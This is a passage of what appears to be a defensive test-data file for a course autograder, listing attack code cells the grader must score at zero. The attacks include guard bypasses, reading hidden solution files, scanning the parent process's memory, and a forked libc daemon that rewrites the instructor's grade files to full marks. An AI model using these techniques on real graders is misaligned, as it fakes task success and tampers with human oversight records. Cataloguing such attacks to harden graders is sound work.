"""Attacks on `dlbook grade` written by someone who had not read the grader's code, against its old design.

Each entry: (what, exercise_id, code, goal), goal one of "marks", "leak", "harm". tests/test_grading.py runs
every one beside tests/grading_attacks.py: each must score 0, leak no canary, harm nothing. One entry
was dropped: a neuron computed with dlbook.activations' sigmoid is the book's own solution, which that
exercise allows.
"""

# --------------------------------------------------------------------------- helpers (strings)

# put any string s into the report: the exception message is copied into feedback/JSON/CSV
def _leaker(fn, args, body, exercise_fn_returns=False):
    """A cell whose function `fn(args)` raises ValueError('LEAK ' + <result of body>)."""
    return ("import os, sys\n"
            "def _grab():\n" + "".join("    " + l + "\n" for l in body.strip("\n").split("\n")) +
            "try:\n    _LOOT = repr(_grab())\nexcept BaseException as _e:\n"
            "    _LOOT = 'EXC ' + type(_e).__name__ + ': ' + str(_e)\n"
            f"def {fn}({args}):\n    raise ValueError('LEAK ' + _LOOT[:4000])\n")

SIG = ("activations.sigmoid", "sigmoid", "z")

LIBC_READ = '''
import ctypes
def _libc_read(path, n=1 << 20):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.open.restype = ctypes.c_int
    fd = libc.open(path.encode() if isinstance(path, str) else path, 0)
    if fd < 0:
        raise OSError(ctypes.get_errno(), 'libc open failed')
    out = b''
    buf = ctypes.create_string_buffer(65536)
    while len(out) < n:
        k = libc.read(fd, buf, 65536)
        if k <= 0:
            break
        out += buf.raw[:k]
    libc.close(fd)
    return out
'''

# solutions.json lives in the installed package (dlbook/exercises/solutions.json, package data)
def _exec_solutions(chapter, loader):
    return (loader + "\nimport json as _json, numpy as np\n"
            "_S = _json.loads(_RAW)\n"
            "for _k, _v in _S.items():\n"
            f"    if _k.startswith('{chapter}.'):\n"
            "        try:\n            exec(_v['solution'], globals())\n"
            "        except Exception:\n            pass\n")

SOL_PKGUTIL = "import pkgutil\n_RAW = pkgutil.get_data('dlbook', 'exercises/solutions.json').decode()\n"
SOL_OPEN = ("import os, dlbook\n_RAW = open(os.path.join(os.path.dirname(dlbook.__file__), 'exercises', 'solutions.json'),"
            " encoding='utf-8').read()\n")
SOL_RESOURCES = ("import importlib.resources as _ir\n"
                 "_RAW = _ir.files('dlbook').joinpath('exercises/solutions.json').read_text(encoding='utf-8')\n")
SOL_LOADER = ("import os, dlbook\n_RAW = dlbook.__loader__.get_data(os.path.join(os.path.dirname(dlbook.__file__),"
              " 'exercises', 'solutions.json')).decode()\n")
SOL_NUMPY = ("import os, dlbook, numpy as _np\n_RAW = _np.fromfile(os.path.join(os.path.dirname(dlbook.__file__),"
             " 'exercises', 'solutions.json'), dtype=_np.uint8).tobytes().decode()\n")
SOL_LIBC = LIBC_READ + ("import os, dlbook\n_RAW = _libc_read(os.path.join(os.path.dirname(dlbook.__file__),"
                        " 'exercises', 'solutions.json')).decode()\n")
SOL_WALK = '''
import os, sys
_RAW = None
for _root in list(sys.path) + [os.getcwd(), os.path.expanduser('~')]:
    for _dp, _dn, _fn in os.walk(_root or '.'):
        if 'solutions.json' in _fn:
            try:
                _RAW = open(os.path.join(_dp, 'solutions.json'), encoding='utf-8').read()
                break
            except Exception:
                pass
        _dn[:] = [d for d in _dn if d not in ('.git', 'node_modules', '__pycache__')][:50]
    if _RAW:
        break
'''

# the instructor's solutions/ notebooks, wherever they are on the grader's disk
def _exec_solution_notebook(exercise, finder):
    return (finder + '''
import json as _json, re as _re, numpy as np
for _p in _CANDIDATES:
    try:
        _nb = _json.loads(_READ(_p))
    except Exception:
        continue
    for _c in _nb.get('cells', []):
        _src = ''.join(_c.get('source', ''))
        if _c.get('cell_type') == 'code' and ('exercise: ' in _src or 'import' in _src[:200]):
            if '%matplotlib' in _src or 'dlbook.exercises' in _src or 'widgets' in _src:
                continue
            try:
                exec(_re.sub(r'(?m)^\\s*###.*$', '', _src), globals())
            except Exception:
                pass
''')

NB_SYSPATH = '''
import os, sys, glob
_READ = lambda p: open(p, encoding='utf-8').read()
_CANDIDATES = []
for _r in sys.path:
    _CANDIDATES += sorted(glob.glob(os.path.join(_r or '.', 'solutions', '*.ipynb')))
    _CANDIDATES += sorted(glob.glob(os.path.join(_r or '.', '..', 'solutions', '*.ipynb')))
'''
NB_PROC_CWD = '''
import os, glob
_READ = lambda p: open(p, encoding='utf-8').read()
_CANDIDATES = sorted(glob.glob('/proc/%d/cwd/solutions/*.ipynb' % os.getppid()))
'''
NB_DLBOOK_PARENT = '''
import os, glob, dlbook
_READ = lambda p: open(p, encoding='utf-8').read()
_CANDIDATES = sorted(glob.glob(os.path.join(os.path.dirname(os.path.dirname(dlbook.__file__)), 'solutions', '*.ipynb')))
'''
NB_GIT = '''
import os, glob, dlbook, zlib
_READ = lambda p: open(p, encoding='utf-8').read()
_CANDIDATES = sorted(glob.glob(os.path.join(os.path.dirname(os.path.dirname(dlbook.__file__)), 'solutions', '*.ipynb')))
if not _CANDIDATES:
    raise RuntimeError('no solutions')
'''

# a copy of dlbook whose guard does nothing: same files, another package name
SHADOW = '''
import sys, types, os, importlib
import dlbook as _d
_pkg = types.ModuleType('shadowdl'); _pkg.__path__ = [os.path.dirname(_d.__file__)]
sys.modules['shadowdl'] = _pkg
_g = types.ModuleType('shadowdl._guard'); _g.check = lambda *a, **k: None
sys.modules['shadowdl._guard'] = _g; _pkg._guard = _g
'''

# dlbook's module source, with the guard calls edited out, executed under the real module name
def _patched_source(mod):
    return f'''
import dlbook.{mod} as _orig
_src = open(_orig.__file__, encoding='utf-8').read().replace('_guard.check(', '(lambda *a, **k: None)(')
_ns = {{'__name__': 'dlbook.{mod}', '__package__': 'dlbook', '__file__': _orig.__file__}}
exec(compile(_src, _orig.__file__, 'exec'), _ns)
class _M: pass
R = _M(); R.__dict__.update(_ns)
'''

# grader-side frames: the child process keeps the job (seed, inputs) in a caller's locals
FRAMES = '''
import sys
def _frames():
    f = sys._getframe(1); out = []
    while f is not None:
        out.append(f); f = f.f_back
    return out
'''

PARENT_MEM = r'''
import os, re
def _scan(pid, pattern, limit=40):
    hits = []
    with open('/proc/%d/maps' % pid) as m, open('/proc/%d/mem' % pid, 'rb', 0) as mem:
        for line in m:
            a, perm = line.split()[:2]
            if 'r' not in perm:
                continue
            lo, hi = (int(x, 16) for x in a.split('-'))
            if hi - lo > 1 << 28:
                continue
            try:
                mem.seek(lo); buf = mem.read(hi - lo)
            except (OSError, OverflowError, ValueError):
                continue
            for mt in re.finditer(pattern, buf):
                hits.append(mt.group())
                if len(hits) > limit:
                    return sorted(set(hits))
    return sorted(set(hits))
'''

ATTACKS = []
def A(what, ex, code, goal):
    ATTACKS.append((what, ex, code, goal))

# =========================================================================== MARKS: delegation
A("delegate: Sigmoid._f, the unguarded kernel", "activations.sigmoid",
  "import numpy as np\nfrom dlbook.activations import Sigmoid\n"
  "def sigmoid(z):\n    z = np.asarray(z)\n    return Sigmoid._f(z if z.dtype.kind == 'f' else z.astype(float))\n", "marks")
A("delegate: an nn.Sigmoid layer", "activations.sigmoid",
  "from dlbook import nn\ndef sigmoid(z):\n    return nn.Sigmoid()(z)\n", "marks")
A("delegate: softplus.derivative is sigmoid, via its kernel", "activations.sigmoid",
  "import numpy as np\nfrom dlbook import activations\n"
  "def sigmoid(z):\n    z = np.asarray(z)\n    return activations.softplus._df(z if z.dtype.kind == 'f' else z.astype(float))\n", "marks")
A("delegate: BCE-with-logits gradient minus zero is sigmoid", "activations.sigmoid",
  "import numpy as np\nfrom dlbook import losses\n"
  "def sigmoid(z):\n    z = np.asarray(z)\n    z = z if z.dtype.kind == 'f' else z.astype(float)\n"
  "    return losses.binary_cross_entropy_with_logits._grad(np.zeros_like(z), z)\n", "marks")
A("delegate: the reference called from another thread", "activations.sigmoid",
  "import threading\nfrom dlbook import activations\n"
  "def sigmoid(z):\n    out = {}\n    t = threading.Thread(target=lambda: out.__setitem__('r', activations.sigmoid(z)))\n"
  "    t.start(); t.join()\n    return out['r']\n", "marks")
A("delegate: the reference in a contextvars copy", "activations.sigmoid",
  "import contextvars\nfrom dlbook import activations\n"
  "def sigmoid(z):\n    return contextvars.Context().run(activations.sigmoid, z)\n", "marks")
A("delegate: the reference compiled with dlbook's file name", "activations.sigmoid",
  "import dlbook.activations as _A\n_ns = {'_A': _A, '__name__': 'dlbook.activations'}\n"
  "exec(compile('def sigmoid(z):\\n    return _A.sigmoid(z)\\n', _A.__file__, 'exec'), _ns)\nsigmoid = _ns['sigmoid']\n", "marks")
A("delegate: code object renamed to look like dlbook", "activations.sigmoid",
  "import dlbook.activations as _A\n"
  "def sigmoid(z):\n    return _A.sigmoid(z)\n"
  "sigmoid.__code__ = sigmoid.__code__.replace(co_filename=_A.__file__, co_name='__call__')\n", "marks")
A("delegate: guard module swapped inside activations' globals", "activations.sigmoid",
  "import types\nimport dlbook.activations as _A\n"
  "_A._guard = types.SimpleNamespace(check=lambda *a, **k: None)\n"
  "def sigmoid(z):\n    return _A.sigmoid(z)\n", "marks")
A("delegate: guard.check's __code__ replaced (identity kept)", "activations.sigmoid",
  "import dlbook._guard as _g\nfrom dlbook import activations\n"
  "_g.check.__code__ = (lambda *a, **k: None).__code__\n"
  "def sigmoid(z):\n    return activations.sigmoid(z)\n", "marks")
A("delegate: shadow copy of dlbook with a no-op guard", "activations.sigmoid",
  SHADOW + "_acts = importlib.import_module('shadowdl.activations')\n"
  "def sigmoid(z):\n    return _acts.sigmoid(z)\n", "marks")
A("delegate: dlbook source re-executed without guard calls", "activations.sigmoid",
  _patched_source("activations") + "def sigmoid(z):\n    return R.sigmoid(z)\n", "marks")
A("delegate: Value.sigmoid element by element", "activations.sigmoid",
  "import numpy as np\nfrom dlbook.autodiff import Value\n"
  "def sigmoid(z):\n    z = np.asarray(z)\n    out = np.vectorize(lambda t: Value(float(t)).sigmoid().data, otypes=[float])(z)\n"
  "    return out.astype(z.dtype) if z.dtype.kind == 'f' else out\n", "marks")
A("delegate: guard bypass via generator/finalizer frame (weakref callback)", "activations.sigmoid",
  "import weakref, gc\nfrom dlbook import activations\n"
  "class _T: pass\n"
  "def sigmoid(z):\n    out = {}\n    t = _T()\n    weakref.finalize(t, lambda: out.__setitem__('r', activations.sigmoid(z)))\n"
  "    del t; gc.collect()\n    return out['r']\n", "marks")
A("delegate: signal handler runs the reference", "activations.sigmoid",
  "import signal, os\nfrom dlbook import activations\n"
  "def sigmoid(z):\n    out = {}\n    signal.signal(signal.SIGUSR1, lambda *a: out.__setitem__('r', activations.sigmoid(z)))\n"
  "    signal.raise_signal(signal.SIGUSR1)\n    return out['r']\n", "marks")
A("delegate: sigmoid_derivative via Sigmoid._df", "activations.sigmoid_derivative",
  "import numpy as np\nfrom dlbook.activations import Sigmoid\n"
  "def sigmoid_derivative(z):\n    z = np.asarray(z)\n    return Sigmoid._df(z if z.dtype.kind == 'f' else z.astype(float))\n", "marks")
A("delegate: relu_derivative via relu._df", "activations.relu_derivative",
  "import numpy as np\nfrom dlbook import activations\n"
  "def relu_derivative(z):\n    return activations.relu._df(np.asarray(z))\n", "marks")
A("delegate: tanh_derivative via the nn.Tanh layer's backward", "activations.tanh_derivative",
  "import numpy as np\nfrom dlbook import nn\n"
  "def tanh_derivative(z):\n    z = np.asarray(z)\n    z = z if z.dtype.kind == 'f' else z.astype(float)\n    layer = nn.Tanh()\n    layer(z)\n    return layer.backward(np.ones_like(z))\n", "marks")
A("delegate: softmax via an nn.Softmax layer", "activations.softmax",
  "from dlbook import nn\ndef softmax(z):\n    return nn.Softmax()(z)\n", "marks")
A("delegate: log_softmax via losses._logsumexp", "losses.log_softmax",
  "import numpy as np\nfrom dlbook import losses\n"
  "def log_softmax(z):\n    z = losses._logits(z, 'z')\n    return z - losses._logsumexp(z)[..., None]\n", "marks")
A("delegate: BCE via the loss object's unguarded _loss", "losses.binary_cross_entropy",
  "import numpy as np\nfrom dlbook import losses\n"
  "def binary_cross_entropy(y, p):\n    p = np.asarray(p).reshape(np.shape(y))\n"
  "    yy, pp = losses.binary_cross_entropy._prepare(y, p)\n    return losses.binary_cross_entropy._loss(yy, pp).mean()\n", "marks")
A("delegate: BCE gradient via _grad", "losses.bce_gradient",
  "import numpy as np\nfrom dlbook import losses\n"
  "def bce_gradient(y, p):\n    yy, pp = losses.binary_cross_entropy._prepare(y, p)\n"
  "    return losses.binary_cross_entropy._grad(yy, pp) / yy.size\n", "marks")
A("delegate: CCE via _mean_value_and_grad", "losses.categorical_cross_entropy",
  "from dlbook import losses\n"
  "def categorical_cross_entropy(Y, P):\n    L = losses.categorical_cross_entropy\n"
  "    return L._mean_value_and_grad(*L._prepare(Y, P))[0]\n", "marks")
A("delegate: softmax CE gradient via _mean_value_and_grad", "losses.softmax_cross_entropy_gradient",
  "from dlbook import losses\n"
  "def softmax_cross_entropy_gradient(Y, Z):\n    L = losses.softmax_cross_entropy\n"
  "    return L._mean_value_and_grad(*L._prepare(Y, Z))[1]\n", "marks")
A("delegate: dense_backward via nn._dense_backward", "backprop.dense_backward",
  "from dlbook import nn\ndef dense_backward(X, W, dZ):\n    return nn._dense_backward(X, W, dZ)\n", "marks")
A("delegate: relu_backward via relu._vjp", "backprop.relu_backward",
  "import numpy as np\nfrom dlbook import activations\n"
  "def relu_backward(Z, dA):\n    return activations.relu._vjp(np.asarray(Z), np.asarray(dA))\n", "marks")
A("delegate: numerical_gradient via gradcheck._central_differences", "backprop.numerical_gradient",
  "from dlbook import gradcheck\n"
  "def numerical_gradient(f, x, h=1e-5):\n    import numpy as np\n    return gradcheck._central_differences(f, np.asarray(x, dtype=np.float64), eps=h)\n", "marks")
A("delegate: value_mul by calling Value.__mul__ from a thread", "backprop.value_mul",
  "import threading\nfrom dlbook.autodiff import Value\n"
  "def value_mul(a, b):\n    out = {}\n    t = threading.Thread(target=lambda: out.__setitem__('r', Value.__mul__(a, b)))\n"
  "    t.start(); t.join()\n    return out['r']\n", "marks")
A("delegate: value_mul via (a+b)^2 - a^2 - b^2, halved by _unary", "backprop.value_mul",
  "from dlbook.autodiff import Value\n"
  "def value_mul(a, b):\n    s = (a + b) ** 2 - a ** 2 - b ** 2\n    return s._unary(s.data / 2, 0.5, '*')\n", "marks")
A("delegate: value_mul via a shadow autodiff with no guard", "backprop.value_mul",
  SHADOW + "_ad = importlib.import_module('shadowdl.autodiff')\n"
  "def value_mul(a, b):\n    return _ad.Value.__mul__(a, b)\n", "marks")
A("delegate: two_layer_gradients via nn.Sequential and the loss kernels", "backprop.two_layer_gradients",
  "import numpy as np\nfrom dlbook import nn, losses\n"
  "def two_layer_gradients(X, y, W1, b1, W2, b2):\n"
  "    d1 = nn.Dense(W1.shape[0], W1.shape[1], rng=0); d1.params = {'W': np.array(W1, float), 'b': np.array(b1, float)}\n"
  "    d2 = nn.Dense(W2.shape[0], W2.shape[1], rng=0); d2.params = {'W': np.array(W2, float), 'b': np.array(b2, float)}\n"
  "    model = nn.Sequential(d1, nn.ReLU(), d2)\n    Z = model(X)\n    L = losses.softmax_cross_entropy\n"
  "    _, g = L._mean_value_and_grad(*L._prepare(np.asarray(y), Z))\n    model.backward(g)\n"
  "    dt = np.result_type(X, W1)\n    return tuple(g.astype(dt) for g in (d1.grads['W'], d1.grads['b'], d2.grads['W'], d2.grads['b']))\n", "marks")
A("delegate: gd_step via optim.SGD", "descent.gd_step",
  "import numpy as np\nfrom dlbook import optim\n"
  "def gd_step(params, grads, lr):\n    new = {k: np.array(v, dtype=float) for k, v in params.items()}\n"
  "    optim.SGD(new, lr=lr).step(grads)\n    return new\n", "marks")
A("delegate: momentum_step via SGD._update with a primed buffer", "descent.momentum_step",
  "import numpy as np\nfrom dlbook import optim\n"
  "def momentum_step(w, g, v, lr, mu):\n    opt = optim.SGD({'w': np.array(w, float)}, lr=lr, momentum=mu)\n"
  "    state = {'v': np.array(v, float)}\n    step = opt._update(np.asarray(g, float), state)\n"
  "    return (w - step).astype(np.result_type(w, g)), state['v'].astype(np.result_type(w, g))\n", "marks")
A("delegate: adam_step via Adam._update with primed state", "descent.adam_step",
  "import numpy as np\nfrom dlbook import optim\n"
  "def adam_step(w, g, m, v, t, lr, beta1, beta2, eps):\n"
  "    opt = optim.Adam({'w': np.array(w, float)}, lr=lr, betas=(beta1, beta2), eps=eps)\n"
  "    st = {'t': t - 1, 'm': np.array(m, float), 'v': np.array(v, float)}\n"
  "    step = opt._update(np.asarray(g, float), st)\n    dt = np.result_type(w, g)\n    return (w - step).astype(dt), st['m'].astype(dt), st['v'].astype(dt)\n", "marks")
A("delegate: minibatches via data.batch_indices", "descent.minibatches",
  "from dlbook import data\n"
  "def minibatches(X, y, batch_size, rng):\n    return [(X[r], y[r]) for r in data.batch_indices(len(X), batch_size, rng=rng)]\n", "marks")
A("delegate: he_init via init.he_normal", "training.he_init",
  "import numpy as np\nfrom dlbook import init\n"
  "def he_init(sizes, rng):\n    return [(init.he_normal(a, b, rng), np.zeros(b)) for a, b in zip(sizes, sizes[1:])]\n", "marks")
A("delegate: parameter_count via an mlp's n_params", "forward.parameter_count",
  "from dlbook import nn\n"
  "def parameter_count(sizes):\n    return int(nn.mlp(list(sizes), rng=0).n_params)\n", "marks")
A("delegate: dense_forward via an nn.Dense layer's kernel", "forward.dense_forward",
  "import numpy as np\nfrom dlbook import nn\n"
  "def dense_forward(X, W, b):\n    d = nn.Dense(W.shape[0], W.shape[1], rng=0); d.params = {'W': W, 'b': b}\n"
  "    return d._forward(np.asarray(X))\n", "marks")
A("delegate: forward via nn.Sequential of Dense/ReLU", "forward.forward",
  "import numpy as np\nfrom dlbook import nn\n"
  "def forward(X, layers):\n    parts = []\n    for i, (W, b) in enumerate(layers):\n"
  "        d = nn.Dense(W.shape[0], W.shape[1], rng=0); d.params = {'W': W, 'b': b}; parts.append(d)\n"
  "        if i < len(layers) - 1:\n            parts.append(nn.ReLU())\n"
  "    return nn.Sequential(*parts)(X)\n", "marks")
A("marks: train_digits memorises the whole digits dataset, test labels included", "training.train_digits",
  "import numpy as np\nfrom dlbook import data\n"
  "_S = data.digits()\n_XS = np.concatenate([_S.X_train, _S.X_val, _S.X_test]) if hasattr(_S, 'X_train') else None\n"
  "def _all():\n    vals = [v for v in vars(_S).values() if isinstance(v, np.ndarray)]\n"
  "    Xs = [v for v in vals if v.ndim == 2 and v.shape[1] == 64]; ys = [v for v in vals if v.ndim == 1]\n"
  "    return np.concatenate(Xs), np.concatenate(ys)\n"
  "class Lookup:\n    def __init__(self):\n        self.X, self.y = _all()\n"
  "    def __call__(self, X):\n        X = np.asarray(X, float)\n"
  "        d = ((X[:, None, :] - self.X[None, :, :]) ** 2).sum(-1)\n"
  "        out = np.full((len(X), 10), -10.0); out[np.arange(len(X)), self.y[d.argmin(1)]] = 10.0\n        return out\n"
  "    forward = predict = __call__\n"
  "def train_digits(X, y, rng):\n    return Lookup()\n", "marks")

# =========================================================================== MARKS: solutions on disk
A("solutions.json via pkgutil.get_data, exec'd (sigmoid)", "activations.sigmoid",
  _exec_solutions("activations", SOL_PKGUTIL), "marks")
A("solutions.json via open(dlbook dir), exec'd (dense_backward)", "backprop.dense_backward",
  _exec_solutions("backprop", SOL_OPEN), "marks")
A("solutions.json via importlib.resources (adam_step)", "descent.adam_step",
  _exec_solutions("descent", SOL_RESOURCES), "marks")
A("solutions.json via the module loader's get_data (log_softmax)", "losses.log_softmax",
  _exec_solutions("losses", SOL_LOADER), "marks")
A("solutions.json via numpy.fromfile (two_layer_gradients)", "backprop.two_layer_gradients",
  _exec_solutions("backprop", SOL_NUMPY), "marks")
A("solutions.json via ctypes libc open/read (softmax)", "activations.softmax",
  _exec_solutions("activations", SOL_LIBC), "marks")
A("solutions.json found by walking sys.path, home and cwd (he_init)", "training.he_init",
  _exec_solutions("training", SOL_WALK), "marks")
A("solutions.json for a number exercise (forward.by_hand)", "forward.by_hand",
  _exec_solutions("forward", SOL_PKGUTIL), "marks")
A("solutions.json for a choice exercise (backprop.order)", "backprop.order",
  _exec_solutions("backprop", SOL_PKGUTIL), "marks")
A("solutions notebook next to sys.path entries, exec'd (bce_gradient)", "losses.bce_gradient",
  _exec_solution_notebook("losses.bce_gradient", NB_SYSPATH), "marks")
A("solutions notebook in the grader's cwd via /proc/PPID/cwd (momentum_step)", "descent.momentum_step",
  _exec_solution_notebook("descent.momentum_step", NB_PROC_CWD), "marks")
A("solutions notebook beside the dlbook package (training.diagnose)", "training.diagnose",
  _exec_solution_notebook("training.diagnose", NB_DLBOOK_PARENT), "marks")
A("solutions notebook for a number (descent.max_lr)", "descent.max_lr",
  _exec_solution_notebook("descent.max_lr", NB_DLBOOK_PARENT), "marks")
A("reference implementation: dlbook.exercises loaded under another name", "activations.relu",
  "import importlib.util, os, sys, types, dlbook, threading\n"
  "_dir = os.path.join(os.path.dirname(dlbook.__file__), 'exercises')\n"
  "_pkg = types.ModuleType('myex'); _pkg.__path__ = [_dir]; sys.modules['myex'] = _pkg\n"
  "_spec = importlib.util.spec_from_file_location('myex', os.path.join(_dir, '__init__.py'), submodule_search_locations=[_dir])\n"
  "_m = importlib.util.module_from_spec(_spec); sys.modules['myex'] = _m; _spec.loader.exec_module(_m)\n"
  "_ref = _m.get('activations.relu').reference\n"
  "def relu(z):\n    out = {}\n    t = threading.Thread(target=lambda: out.__setitem__('r', _ref(z)))\n    t.start(); t.join()\n    return out['r']\n",
  "marks")
A("reference implementation: dlbook.exercises imported after deleting meta_path blockers", "activations.tanh_derivative",
  "import sys, threading\n"
  "sys.meta_path[:] = [f for f in sys.meta_path if type(f).__module__.startswith(('importlib', '_frozen'))]\n"
  "sys.modules.pop('dlbook.exercises', None)\n"
  "import dlbook.exercises as _ex\n_ref = _ex.get('activations.tanh_derivative').reference\n"
  "def tanh_derivative(z):\n    out = {}\n    t = threading.Thread(target=lambda: out.__setitem__('r', _ref(z)))\n    t.start(); t.join()\n    return out['r']\n",
  "marks")

# =========================================================================== MARKS: tolerance / type games
A("NaN everywhere (NaN comparisons are False)", "activations.relu",
  "import numpy as np\ndef relu(z):\n    return np.full(np.shape(z), np.nan)\n", "marks")
A("ndarray subclass whose == and ufuncs say True", "activations.relu",
  "import numpy as np\nclass Eq(np.ndarray):\n    def __eq__(self, o): return np.ones(self.shape, bool)\n"
  "    def __array_ufunc__(self, uf, method, *a, **k):\n        return np.ones(np.shape(a[0]), bool) if uf in (np.isclose, np.equal, np.less_equal) else NotImplemented\n"
  "    def __array_function__(self, func, types, args, kwargs):\n        return True\n"
  "def relu(z):\n    return np.zeros(np.shape(z)).view(Eq)\n", "marks")
A("fully masked numpy masked array", "activations.relu",
  "import numpy as np\ndef relu(z):\n    return np.ma.masked_all(np.shape(z))\n", "marks")
A("object with __array__ that returns the input (identity)", "activations.relu",
  "class Lazy:\n    def __init__(self, z): self.z = z\n    def __array__(self, *a, **k):\n        import numpy as np\n        return np.asarray(self.z, dtype=float)\n"
  "    def __eq__(self, o): return True\ndef relu(z):\n    return Lazy(z)\n", "marks")
A("a scalar 0 that broadcasts against any shape", "activations.relu_derivative",
  "def relu_derivative(z):\n    return 0.5\n", "marks")
A("a 0-stride broadcast view", "activations.relu",
  "import numpy as np\ndef relu(z):\n    return np.broadcast_to(np.float64(0.5), np.shape(z))\n", "marks")
A("complex result with a huge imaginary part", "activations.relu",
  "import numpy as np\ndef relu(z):\n    return np.asarray(z) * 1j + 1e300j\n", "marks")
A("float16 result of the identity (loose dtype tolerance)", "activations.relu",
  "import numpy as np\ndef relu(z):\n    return np.asarray(z).astype(np.float16)\n", "marks")
A("number exercise answered with NaN", "activations.vanishing",
  "surviving_fraction = float('nan')\n", "marks")
A("number exercise answered with a list of candidates", "descent.max_lr",
  "import numpy as np\nlr_max = [i / 60 for i in range(1, 121)]\n", "marks")
A("number exercise answered with an array of candidates", "forward.by_hand",
  "import numpy as np\np = np.linspace(0, 1, 100001)\n", "marks")
A("number exercise answered with a string expression", "losses.batch_loss",
  "loss = \"__import__('math').nan\"\n", "marks")
A("number exercise answered with inf", "training.memory",
  "n_bytes = float('inf')\n", "marks")
A("number exercise answered with a bool", "backprop.chain_rule",
  "dL_dw1 = True\n", "marks")
A("choice answered with every letter", "forward.output_layer",
  "output_layer = 'abcd'\n", "marks")
A("choice answered with a list of every letter", "activations.output_layer",
  "output_layer = ['a', 'b', 'c', 'd', 'e']\n", "marks")
A("choice answered with a regex that matches anything", "losses.why_cross_entropy",
  "why_cross_entropy = '.*'\n", "marks")
A("choice answered with a str subclass equal to everything", "training.diagnose",
  "class S(str):\n    def __eq__(self, o): return True\n    def __ne__(self, o): return False\n    __hash__ = str.__hash__\n"
  "    def strip(self, *a): return self\n    def lower(self): return self\n"
  "diagnosis = S('a')\n", "marks")
A("function that returns a dict pretending to be a result", "welcome.row_means",
  "def row_means(X):\n    return {'passed': True, 'value': 0}\n", "marks")

# =========================================================================== MARKS: tampering with the child's report
A("atexit: rewrite result.json so every run looks clean", "activations.sigmoid",
  "import atexit, json, os\n"
  "def _fix(o):\n    if isinstance(o, dict):\n"
  "        for k in list(o):\n            if k in ('error', 'error_line', 'cell_error', 'tampered'):\n                o[k] = None if k != 'error_line' else ''\n"
  "            elif k in ('mutated', 'warnings'):\n                o[k] = []\n            elif k in ('not_attempted', 'not_callable'):\n                o[k] = False\n"
  "            else:\n                _fix(o[k])\n    elif isinstance(o, list):\n        for x in o: _fix(x)\n"
  "def _h():\n    try:\n        d = json.load(open('result.json')); _fix(d); json.dump(d, open('result.json', 'w'))\n    except Exception:\n        pass\n"
  "atexit.register(_h)\n"
  "def sigmoid(z):\n    return z\n", "marks")
A("harness frames: swap the function the child calls for a shadow reference", "activations.sigmoid",
  SHADOW + "_acts = importlib.import_module('shadowdl.activations')\n" + FRAMES +
  "def sigmoid(z):\n    for f in _frames():\n        if 'answer' in f.f_locals and 'namespace' in f.f_locals:\n"
  "            f.f_locals['namespace']['sigmoid'] = _acts.sigmoid\n"
  "    return _acts.sigmoid(z)\n", "marks")
A("monkeypatch json.dumps/np.savez in the child so outputs are replaced", "activations.relu",
  "import json, numpy as np\n_orig = json.dumps\n"
  "def _dumps(o, *a, **k):\n    s = _orig(o, *a, **k)\n    return s.replace('\"tampered\": true', '\"tampered\": false')\n"
  "json.dumps = _dumps\n"
  "def relu(z):\n    return z\n", "marks")
A("grader-side fork via libc: daemon rewrites the instructor's JSON/CSV after the run", "activations.sigmoid",
  r'''import ctypes, os, sys
_CHILD = r"""
import os, sys, time, json, re
ppid = int(sys.argv[1]); t0 = time.time()
try:
    argv = open('/proc/%d/cmdline' % ppid, 'rb').read().split(b'\0')
except Exception:
    argv = []
outs = [a.decode() for i, a in enumerate(argv) if i and argv[i - 1] in (b'--json', b'--csv')]
def fix():
    for p in outs:
        try:
            s = open(p).read()
        except Exception:
            continue
        if p.endswith('.json'):
            d = json.loads(s)
            def walk(o):
                if isinstance(o, dict):
                    if 'max_points' in o and 'points' in o:
                        o['points'] = o['max_points']
                    if 'status' in o:
                        o['status'] = 'passed'
                    for v in o.values(): walk(v)
                elif isinstance(o, list):
                    for v in o: walk(v)
            walk(d); s2 = json.dumps(d, indent=1)
        else:
            s2 = re.sub(r',(failed|error|not attempted|crashed|timeout),0(\.0)?,', ',passed,2,', s)
        if s2 != s:
            open(p, 'w').write(s2)
while time.time() - t0 < 900:
    fix(); time.sleep(0.02)
    if not os.path.exists('/proc/%d' % ppid):
        for _ in range(100):
            fix(); time.sleep(0.05)
        break
"""
libc = ctypes.CDLL(None)
_GRADER = os.getppid()
if libc.fork() == 0:
    libc.setsid()
    if libc.fork() == 0:
        args = [sys.executable.encode(), b'-c', _CHILD.encode(), str(_GRADER).encode(), None]
        arr = (ctypes.c_char_p * len(args))(*args)
        libc.execv(sys.executable.encode(), arr)
    libc._exit(0)
def sigmoid(z):
    return z
''', "marks")

A("delegate: copy of Sigmoid.__call__ with its own globals (no-op guard)", "activations.sigmoid",
  "import types\nfrom dlbook import activations as _A\n"
  "_f = _A.Activation.__call__\n_g = dict(_f.__globals__); _g['_guard'] = types.SimpleNamespace(check=lambda *a, **k: None)\n"
  "_call = types.FunctionType(_f.__code__, _g, '__call__', _f.__defaults__, _f.__closure__)\n"
  "def sigmoid(z):\n    return _call(_A.sigmoid, z)\n", "marks")
A("delegate: parameter_count re-bound to globals with a no-op guard", "forward.parameter_count",
  "import types\nfrom dlbook import nn\n_f = nn.parameter_count\n"
  "_g = dict(_f.__globals__); _g['_guard'] = types.SimpleNamespace(check=lambda *a, **k: None)\n"
  "parameter_count = types.FunctionType(_f.__code__, _g, 'parameter_count')\n", "marks")
A("delegate: Value.__mul__ re-bound to globals with a no-op guard", "backprop.value_mul",
  "import types\nfrom dlbook.autodiff import Value\n_f = Value.__mul__\n"
  "_g = dict(_f.__globals__); _g['_guard'] = types.SimpleNamespace(check=lambda *a, **k: None)\n"
  "value_mul = types.FunctionType(_f.__code__, _g, '__mul__', None, _f.__closure__)\n", "marks")
A("delegate: numerical_gradient via dlbook.gradcheck in a thread", "backprop.numerical_gradient",
  "import threading, numpy as np\nfrom dlbook import gradcheck\n"
  "def numerical_gradient(f, x, h=1e-5):\n    out = {}\n"
  "    t = threading.Thread(target=lambda: out.__setitem__('r', gradcheck.numerical_gradient(f, np.asarray(x, np.float64), eps=h)))\n"
  "    t.start(); t.join()\n    return out['r']\n", "marks")
A("reference implementation: dlbook.exercises imported inside a shadow package", "activations.relu",
  SHADOW + "import threading\n_ex = importlib.import_module('shadowdl.exercises')\n_ref = _ex.get('activations.relu').reference\n"
  "def relu(z):\n    out = {}\n    t = threading.Thread(target=lambda: out.__setitem__('r', _ref(z)))\n    t.start(); t.join()\n    return out['r']\n",
  "marks")
A("libc fork+execv: unsandboxed python computes the reference, answer reads its output", "activations.tanh_derivative",
  "import ctypes, os, sys, json, time\nimport numpy as np\nlibc = ctypes.CDLL(None)\n"
